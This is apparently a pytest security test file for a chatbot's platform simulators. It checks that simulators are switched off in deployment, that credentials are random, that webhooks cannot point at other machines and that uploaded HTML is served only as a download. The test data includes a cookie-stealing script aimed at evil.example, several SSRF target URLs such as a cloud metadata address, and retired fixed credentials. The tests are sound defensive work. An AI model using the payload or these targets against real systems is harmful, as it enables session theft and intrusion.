"""Issue 8.1, tried as an attacker would: no simulator beside a real platform, no fixed credentials,
no webhook to other machines, no uploaded page served from the bot's origin.

Each test starts ``engagebot run`` as a subprocess and attacks it over real HTTP.
"""

from __future__ import annotations

import hashlib
import re
import secrets
import time
from pathlib import Path

import aiohttp
import pytest
import yaml

from bot.settings import Settings
from bot.simulation import real_platforms, simulators_to_mount
from tests.support.db import stored_simulator_credentials
from tests.support.process import ROOT, http, http_json, running
from tests.support.servers import free_port

pytestmark = pytest.mark.engine_neutral  # the PostgreSQL pass leaves these to the SQLite pass (tests/conftest.py)

# What the source used to hold: the simulators' fixed credentials an outsider could read on GitHub.
OLD_TELEGRAM_TOKEN = "123456:SIMULATED"
OLD_WECHAT_TOKEN = "engagebotSimulatorToken"
OLD_WECHAT_SECRET = "engagebot-simulator-app-secret"
OLD_WECHAT_APP_ID = "wxsimulated00000001"
WECHAT_ENV = {"ENGAGEBOT_WECHAT__TOKEN": "RealToken123", "ENGAGEBOT_WECHAT__APP_ID": "wx1234567890abcdef",
              "ENGAGEBOT_WECHAT__APP_SECRET": "real-app-secret"}


WECHAT = {"token": "Tok123", "app_id": "wx1234567890abcdef", "app_secret": "real-app-secret"}


def _signed(token: str, **extra: str) -> str:
    timestamp, nonce = str(int(time.time())), secrets.token_hex(8)  # inside the clock window, never replayed
    signature = hashlib.sha1("".join(sorted([token, timestamp, nonce])).encode()).hexdigest()
    query = {"signature": signature, "timestamp": timestamp, "nonce": nonce, **extra}
    return "&".join(f"{k}={v}" for k, v in query.items())


def _dead_api(port: int) -> str:
    return f"http://127.0.0.1:{port}"  # nothing listens: the real platform is configured, never reached


TELEGRAM_SIMULATOR_PATHS = [
    ("GET", "/simulator/telegram"), ("GET", "/simulator/telegram/api/state"),
    ("POST", "/simulator/telegram/api/users"), ("POST", "/simulator/telegram/api/start"),
    ("POST", "/simulator/telegram/api/send"), ("GET", "/simulator/telegram/api/chat?user_id=700000001"),
    ("GET", "/simulator/telegram/api/file/x"), (("GET", f"/bot{OLD_TELEGRAM_TOKEN}/getMe")),
    ("POST", f"/bot{OLD_TELEGRAM_TOKEN}/setWebhook"), ("GET", f"/file/bot{OLD_TELEGRAM_TOKEN}/documents/x"),
]
WECHAT_SIMULATOR_PATHS = [
    ("GET", "/simulator/wechat"), ("GET", "/simulator/wechat/api/followers"),
    ("POST", "/simulator/wechat/api/followers"), ("POST", "/simulator/wechat/api/action"),
    ("GET", f"/cgi-bin/token?grant_type=client_credential&appid={OLD_WECHAT_APP_ID}&secret={OLD_WECHAT_SECRET}"),
    ("POST", "/cgi-bin/message/custom/send"), ("POST", "/cgi-bin/qrcode/create"), ("GET", "/cgi-bin/user/info"),
]


def _assert_not_served(base: str, paths: list[tuple[str, str]]) -> None:
    for method, path in paths:
        status, _headers, body = http(method, base + path, {} if method == "POST" else None)
        assert status == 404, (method, path, status, body[:200])


async def test_with_only_wechat_configured_no_telegram_simulator_is_served(tmp_path: Path, database_url: str) -> None:
    port = free_port()
    env = {**WECHAT_ENV, "ENGAGEBOT_WECHAT__API_BASE": _dead_api(free_port()),
           "ENGAGEBOT_DATABASE_URL": database_url, "ENGAGEBOT_PORT": str(port)}
    with running("run", env=env, cwd=tmp_path, port=port) as server:
        _assert_not_served(server.url, TELEGRAM_SIMULATOR_PATHS + WECHAT_SIMULATOR_PATHS)
        status, _h, body = http("GET", f"{server.url}/wechat?{_signed('RealToken123', echostr='e1')}")
        assert (status, body) == (200, b"e1")  # the real account is served
    assert "simulators: none (real platform configured: wechat)" in server.lines


async def test_with_only_telegram_configured_no_wechat_simulator_is_served(tmp_path: Path, database_url: str) -> None:
    port = free_port()
    env = {"ENGAGEBOT_TELEGRAM__TOKEN": "987654:RealTokenFromBotFather_abc",
           "ENGAGEBOT_TELEGRAM__API_BASE": _dead_api(free_port()) + "/bot",
           "ENGAGEBOT_DATABASE_URL": database_url, "ENGAGEBOT_PORT": str(port)}
    with running("run", env=env, cwd=tmp_path, port=port) as server:
        _assert_not_served(server.url, WECHAT_SIMULATOR_PATHS + TELEGRAM_SIMULATOR_PATHS)
        # The simulated WeChat account (/wechat with the old public token) is gone too: no WeChat at all.
        for method in ("GET", "POST"):
            status, _h, _b = http(method, f"{server.url}/wechat?{_signed(OLD_WECHAT_TOKEN, echostr='e1')}",
                                  data=b"<xml/>" if method == "POST" else None)
            assert status == 404
    assert "simulators: none (real platform configured: telegram)" in server.lines


async def test_simulators_true_serves_them_beside_a_real_platform_and_a_public_host_is_warned_of(
        tmp_path: Path, database_url: str) -> None:
    port = free_port()
    env = {**WECHAT_ENV, "ENGAGEBOT_WECHAT__API_BASE": _dead_api(free_port()), "ENGAGEBOT_SIMULATORS": "true",
           "ENGAGEBOT_DATABASE_URL": database_url}
    with running("run", "--host", "0.0.0.0", "--port", str(port), env=env, cwd=tmp_path, port=port) as server:
        status, _h, _b = http("GET", server.url + "/simulator/telegram")
        assert status == 200
        _assert_not_served(server.url, WECHAT_SIMULATOR_PATHS)  # never beside the real WeChat account
    lines = "\n".join(server.lines)
    assert "simulators mounted: Telegram, Weibo (ENGAGEBOT_SIMULATORS=true;" in lines
    assert "WARNING: simulators are served beside the real WeChat" in lines
    assert "WARNING: the simulators listen on 0.0.0.0, reachable from other machines" in lines


async def test_the_embedded_default_says_which_simulators_are_mounted_and_stays_quiet_on_loopback(
        tmp_path: Path, database_url: str) -> None:
    port = free_port()
    env = {"ENGAGEBOT_DATABASE_URL": database_url, "ENGAGEBOT_PORT": str(port)}
    with running("run", env=env, cwd=tmp_path, port=port) as default:
        pass
    with running("run", env={**env, "ENGAGEBOT_SIMULATORS": "false"}, cwd=tmp_path, port=port, name="off") as off:
        _assert_not_served(off.url, WECHAT_SIMULATOR_PATHS + TELEGRAM_SIMULATOR_PATHS)
    lines = "\n".join(default.lines)
    assert "simulators mounted: WeChat, Telegram, Weibo (no real platform configured; " in lines
    assert "WARNING" not in lines
    assert "simulators: none (ENGAGEBOT_SIMULATORS=false)" in off.lines


async def test_simulator_credentials_are_random_per_database_and_the_old_ones_open_nothing(
        tmp_path: Path, database_url: str) -> None:
    port = free_port()
    env = {"ENGAGEBOT_DATABASE_URL": database_url, "ENGAGEBOT_PORT": str(port)}
    with running("run", env=env, cwd=tmp_path, port=port) as server:
        stored = await stored_simulator_credentials(database_url)
        status, _h, _b = http("GET", f"{server.url}/bot{OLD_TELEGRAM_TOKEN}/getMe")
        assert status == 401
        assert http_json("GET", f"{server.url}/bot{stored['telegram']['token']}/getMe")["ok"] is True
        old = http_json("GET", f"{server.url}/cgi-bin/token?grant_type=client_credential"
                               f"&appid={OLD_WECHAT_APP_ID}&secret={OLD_WECHAT_SECRET}")
        assert old["errcode"] == 40125  # invalid appsecret
        new = http_json("GET", f"{server.url}/cgi-bin/token?grant_type=client_credential"
                               f"&appid={OLD_WECHAT_APP_ID}&secret={stored['wechat']['app_secret']}")
        assert "access_token" in new
        status, _h, _b = http("GET", f"{server.url}/wechat?{_signed(OLD_WECHAT_TOKEN, echostr='e1')}")
        assert status == 403
        status, _h, body = http("GET", f"{server.url}/wechat?{_signed(stored['wechat']['token'], echostr='e2')}")
        assert (status, body) == (200, b"e2")
    # The same database keeps its credentials; another database gets its own.
    with running("run", env=env, cwd=tmp_path, port=port, name="again"):
        assert await stored_simulator_credentials(database_url) == stored
    other_url = f"sqlite+aiosqlite:///{tmp_path / 'other.db'}"
    with running("run", env={**env, "ENGAGEBOT_DATABASE_URL": other_url}, cwd=tmp_path, port=port, name="other"):
        other = await stored_simulator_credentials(other_url)
    for name in ("wechat", "telegram"):
        for key, value in stored[name].items():
            assert other[name][key] != value, (name, key)
    assert re.fullmatch(r"[A-Za-z0-9]{43}", stored["wechat"]["aes_key"])
    for value in (v for creds in stored.values() for v in creds.values()):  # never printed nor logged
        assert value not in server.stderr and value not in (tmp_path / "run.out").read_text()


async def test_setwebhook_to_another_machine_is_refused(tmp_path: Path, database_url: str) -> None:
    port = free_port()
    env = {"ENGAGEBOT_DATABASE_URL": database_url, "ENGAGEBOT_PORT": str(port)}
    with running("run", env=env, cwd=tmp_path, port=port) as server:
        token = (await stored_simulator_credentials(database_url))["telegram"]["token"]
        api = f"{server.url}/bot{token}"
        for url in ("http://169.254.169.254/latest/meta-data/", "http://10.0.0.1:8080/hook",
                    "https://example.com/hook", "http://[2001:db8::1]/hook", "http://127.0.0.1.nip.io/hook",
                    "http://0x7f000001.example/hook"):
            status, _h, body = http("POST", f"{api}/setWebhook", {"url": url})
            assert status == 400 and b"loopback addresses only" in body, (url, body)
        assert http_json("GET", f"{api}/getWebhookInfo")["result"]["url"] == ""
        status, _h, _b = http("POST", f"{server.url}/botWRONG:TOKEN/setWebhook", {"url": "http://127.0.0.1/"})
        assert status == 401


async def test_an_uploaded_html_page_is_only_ever_served_as_a_download(tmp_path: Path, database_url: str) -> None:
    port = free_port()
    env = {"ENGAGEBOT_DATABASE_URL": database_url, "ENGAGEBOT_PORT": str(port)}
    page = b"<html><script>document.location='https://evil.example/?c='+document.cookie</script></html>"
    with running("run", env=env, cwd=tmp_path, port=port) as server:
        token = (await stored_simulator_credentials(database_url))["telegram"]["token"]
        sim = f"{server.url}/simulator/telegram/api"
        user = http_json("POST", f"{sim}/users", {"first_name": "Mallory"})["user"]["id"]
        http_json("POST", f"{sim}/send", {"user_id": user, "text": "hi"})  # the chat is open
        async with aiohttp.ClientSession() as client:
            form = aiohttp.FormData()
            form.add_field("chat_id", str(user))
            form.add_field("document", page, filename="invite.html", content_type="text/html")
            async with client.post(f"{server.url}/bot{token}/sendDocument", data=form) as resp:
                document = (await resp.json())["result"]["document"]
            path = http_json("GET", f"{server.url}/bot{token}/getFile?file_id={document['file_id']}")["result"]
            too_big = aiohttp.FormData()
            too_big.add_field("chat_id", str(user))
            too_big.add_field("document", b"x" * (3 * 1024 * 1024), filename="big.bin")
            async with client.post(f"{server.url}/bot{token}/sendDocument", data=too_big) as resp:
                assert resp.status in (400, 413)  # bounded by the simulator and by the server
        for url in (f"{sim}/file/{document['file_id']}", f"{server.url}/file/bot{token}/{path['file_path']}"):
            status, headers, body = http("GET", url)
            assert status == 200 and body == page
            assert headers["Content-Type"] == "application/octet-stream"
            assert headers["Content-Disposition"].startswith("attachment")
            assert headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(("settings", "real", "mounted"), [
    ({}, [], ["wechat", "telegram", "weibo"]),
    ({"wechat": WECHAT}, ["wechat"], []),
    ({"wechat_accounts": {"svc": WECHAT}}, ["wechat"], []),
    ({"telegram": {"token": "1:abc"}}, ["telegram"], []),
    ({"wechat": WECHAT, "telegram": {"token": "1:abc"}}, ["wechat", "telegram"], []),
    ({"wechat": WECHAT, "simulators": True}, ["wechat"], ["telegram", "weibo"]),
    ({"simulators": False}, [], []),
    ({"simulators": True}, [], ["wechat", "telegram", "weibo"]),
])
def test_simulators_are_mounted_only_without_a_real_platform_or_when_asked(
        settings: dict, real: list[str], mounted: list[str]) -> None:
    s = Settings(**settings)
    assert (real_platforms(s), simulators_to_mount(s)) == (real, mounted)


def test_every_deploy_file_turns_the_simulators_off() -> None:
    deploy = ROOT / "deploy"
    dockerfile = (deploy / "Dockerfile").read_text()
    assert re.search(r"^ENV .*ENGAGEBOT_SIMULATORS=false", dockerfile.replace("\\\n", " "), re.M)
    compose = yaml.safe_load((deploy / "compose.yaml").read_text())
    for name, service in compose["services"].items():
        if "build" in service:
            assert service["environment"]["ENGAGEBOT_SIMULATORS"] == "false", name
    assert yaml.safe_load((deploy / "config.example.yaml").read_text())["simulators"] is False
    assert "\nENGAGEBOT_SIMULATORS=false\n" in (deploy / "engagebot.env.example").read_text()
    assert "\nEnvironment=ENGAGEBOT_SIMULATORS=false\n" in (deploy / "engagebot.service").read_text()
    assert sorted(p.name for p in deploy.iterdir()) == [  # a new deploy file must be added here too
        "Dockerfile", "compose.yaml", "config.example.yaml", "engagebot.env.example", "engagebot.service", "nginx.conf"]
